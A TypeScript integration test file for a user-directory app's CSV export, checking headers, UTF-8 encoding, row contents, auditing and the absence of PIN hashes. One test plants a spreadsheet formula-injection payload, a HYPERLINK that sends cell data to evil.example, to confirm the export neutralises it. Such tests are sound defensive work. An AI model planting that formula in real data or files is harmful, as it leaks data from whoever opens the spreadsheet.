/**
 * Export to CSV over real HTTP: each row must say what POST /api/users/search and POST /api/pins/status
 * answer for the same search, given as the page-URL parameters the Users page holds. The file starts with a
 * UTF-8 byte order mark, which fetch's text() drops, so the bytes themselves are read where it matters.
 */

import { parseCsv } from "@pindesk/domain/csv/test-support/parse-csv";
import type { PinStatusResponse } from "@pindesk/domain/pins/pin-api";
import type { FilterOperator, FilterProperty } from "@pindesk/domain/users/filter-catalogue";
import type { SearchQuery } from "@pindesk/domain/users/search-query";
import { DEFAULT_SORT } from "@pindesk/domain/users/search-sort";
import { searchQueryToParams } from "@pindesk/domain/users/search-url";
import type { SearchResponse } from "@pindesk/domain/users/user";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { insertDirectoryUsers } from "../../core/directory/directory-writer.ts";
import { directoryUser } from "../../test/directory-users.ts";
import { startTestApp, type TestApp } from "../../test/test-app.ts";
import { TEST_ENGINES } from "../../test/test-database.ts";

/** The exact header line: the table's columns, then the PIN status fields. */
const HEADER = (
  "Display name,SIP address,Line URI,Registrar pool,Enabled,PIN set,PIN locked,Lock reason," +
  "Last PIN change time,PIN expiration time,Failed attempts,Total failed attempts,Temporary lockout ends"
).split(",");

const query = (input: Partial<SearchQuery>): SearchQuery => ({
  mode: "Search",
  maxUsers: 200,
  filters: [],
  sort: DEFAULT_SORT,
  ...input,
});
const clause = (property: FilterProperty, operator: FilterOperator, value: string) => ({
  property,
  operator,
  value,
});

const QUERIES: [string, SearchQuery][] = [
  ["everyone", query({})],
  [
    "Search with text and filters",
    query({ searchText: "k", filters: [clause("IsPinSet", "EqualTo", "True")] }),
  ],
  ["Search with filters only", query({ filters: [clause("Site", "EqualTo", "Redmond")] })],
  [
    "LDAP Search with a filter clause",
    query({
      mode: "LdapSearch",
      ldapFilter: "(|(title=Manager)(title=Supervisor)(sn=S*))",
      filters: [clause("Enabled", "EqualTo", "True")],
    }),
  ],
  ["locked PINs", query({ filters: [clause("IsLockedOut", "EqualTo", "True")] })],
];

const text = (value: string | null) => value ?? "";
const yesNo = (value: boolean) => (value ? "Yes" : "No");

const BOM = [0xef, 0xbb, 0xbf];

/** A user typed into the directory by someone else: only a name, a logon and, perhaps, a line URI. */
/** A user of OU=Sales by display name, logon and line URI. */
const exportedUser = (displayName: string, logon: string, lineUri: string | null = null) =>
  directoryUser(logon, { displayName, lineUri });

describe.each(TEST_ENGINES)("Export to CSV on %s", (engine) => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startTestApp(engine);
  });
  afterAll(() => app?.close());

  const download = (search: SearchQuery) =>
    app.get<string>(`/api/users/export.csv?${searchQueryToParams(search)}`);
  /** The file as it arrives, byte order mark and all. */
  const downloadBytes = async (search: SearchQuery) => {
    const response = await fetch(`${app.baseUrl}/api/users/export.csv?${searchQueryToParams(search)}`, {
      headers: { cookie: app.administrator.cookie ?? "", origin: app.baseUrl },
    });
    expect(response.status).toBe(200);
    return new Uint8Array(await response.arrayBuffer());
  };
  const asText = (bytes: Uint8Array) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
  const rowsOf = async (search: SearchQuery) => {
    const response = await download(search);
    expect(response.status, response.body).toBe(200);
    const [header, ...rows] = parseCsv(response.body);
    expect(header).toEqual(HEADER);
    return rows;
  };
  /** The rows the export must hold, from the two JSON answers for the same query. */
  const expectedRows = async (search: SearchQuery) => {
    const found = await app.post<SearchResponse>("/api/users/search", search);
    const pins = await app.post<PinStatusResponse>("/api/pins/status", { query: search });
    expect(pins.body.statuses.map((entry) => entry.userId)).toEqual(found.body.users.map((user) => user.id));
    return found.body.users.map((user, i) => {
      const pin = pins.body.statuses[i]?.status;
      if (!pin) throw new Error(`no PIN status for ${user.displayName}`);
      return [
        user.displayName,
        text(user.sipAddress),
        text(user.lineUri),
        text(user.registrarPool),
        yesNo(user.enabled),
        user.isPinExpired ? "Expired" : yesNo(user.isPinSet),
        yesNo(user.isLockedOut),
        text(pin.lockReason),
        text(pin.lastPinChangeTime),
        text(pin.pinExpirationTime),
        String(pin.failedAttempts),
        String(pin.totalFailedAttempts),
        text(pin.temporaryLockoutEnds),
      ];
    });
  };

  it("answers a CSV attachment named for the server's date", async () => {
    const response = await download(query({}));
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(
      'attachment; filename="pindesk-users-2026-11-23.csv"',
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(response.body.startsWith(`${HEADER.join(",")}\r\n`)).toBe(true);
  });

  it("starts with one UTF-8 byte order mark, then the header", async () => {
    const bytes = await downloadBytes(query({}));
    expect([...bytes.subarray(0, 3)]).toEqual(BOM);
    expect(asText(bytes.subarray(3)).startsWith(`${HEADER.join(",")}\r\n`)).toBe(true);
    expect(parseCsv(asText(bytes))[0]).toEqual(HEADER);
  });

  it.each(QUERIES)("holds one row per user the search finds, in its order: %s", async (_what, search) => {
    const expected = await expectedRows(search);
    expect(expected.length).toBeGreaterThan(0);
    expect(await rowsOf(search)).toEqual(expected);
  });

  it("shows every lock reason and failure count the PIN status has", async () => {
    const rows = await rowsOf(query({ filters: [clause("IsPinSet", "EqualTo", "True")] }));
    const reasons = new Set(rows.map((row) => row[HEADER.indexOf("Lock reason")]));
    expect(reasons).toEqual(new Set(["", "Administrator", "TooManyAttempts", "Temporary"]));
  });

  it("stops at Maximum users to display", async () => {
    const search = query({ maxUsers: 7 });
    const rows = await rowsOf(search);
    expect(rows).toHaveLength(7);
    expect(rows).toEqual(await expectedRows(search));
  });

  it("quotes commas and quotes, and neutralises a formula typed into the directory", async () => {
    await insertDirectoryUsers(app.db, [
      directoryUser("mallory", {
        displayName: '=HYPERLINK("http://evil.example/?"&A1,"Details")',
        distinguishedName: "CN=Mallory,OU=Sales,DC=litwareinc,DC=com",
      }),
    ]);
    const response = await download(query({ searchText: "mallory" }));
    expect(response.body).toContain(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",sip:mallory@litwareinc.com,',
    );
    expect(parseCsv(response.body)[1]?.[0]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Details")');
  });

  it("neutralises a formula after a line feed, quotes a semicolon, keeps Zoë and 王秀英 in UTF-8", async () => {
    await insertDirectoryUsers(app.db, [
      exportedUser("\n=1+1", "csvcheck-lf", "tel:+14255550199;ext=0199"),
      exportedUser("x;=1+1", "csvcheck-semicolon"),
      exportedUser("Zoë Ångström", "csvcheck-zoe"),
      exportedUser("王秀英", "csvcheck-cjk"),
    ]);
    const bytes = await downloadBytes(query({ searchText: "csvcheck" }));
    const rest = ",,Yes,No,No,,,,0,0,\r\n";
    expect(asText(bytes)).toBe(
      `\uFEFF${HEADER.join(",")}\r\n` +
        `"'\n=1+1",sip:csvcheck-lf@litwareinc.com,"tel:+14255550199;ext=0199"${rest}` +
        `"x;=1+1",sip:csvcheck-semicolon@litwareinc.com,${rest}` +
        `Zoë Ångström,sip:csvcheck-zoe@litwareinc.com,${rest}` +
        `王秀英,sip:csvcheck-cjk@litwareinc.com,${rest}`,
    );
    // Encoded once, as UTF-8: ë is C3 AB, 王 is E7 8E 8B.
    const hex = Buffer.from(bytes).toString("hex");
    expect(hex).toContain("5a6fc3ab"); // "Zoë"
    expect(hex).toContain("e78e8b"); // "王"
    expect(parseCsv(asText(bytes)).map((row) => row[0])).toEqual([
      "Display name",
      "'\n=1+1",
      "x;=1+1",
      "Zoë Ångström",
      "王秀英",
    ]);
  });

  it("is audited as an export of its own: who, which search, how many users", async () => {
    await app.get(`/api/users/export.csv?${searchQueryToParams(query({ searchText: "Pilar" }))}`);
    const [event] = await app.db
      .selectFrom("audit_events")
      .selectAll()
      .where("action", "=", "users.export")
      .orderBy("id", "desc")
      .limit(1)
      .execute();
    expect(event).toMatchObject({ actor_name: app.administrator.username, outcome: "Success" });
    expect(event?.details).toMatchObject({ search: "q=Pilar", rows: 2 });
  });

  it("never holds a PIN hash", async () => {
    const response = await download(query({ maxUsers: 10_000 }));
    expect(response.body).not.toMatch(/argon2|\$v=/);
  });
});
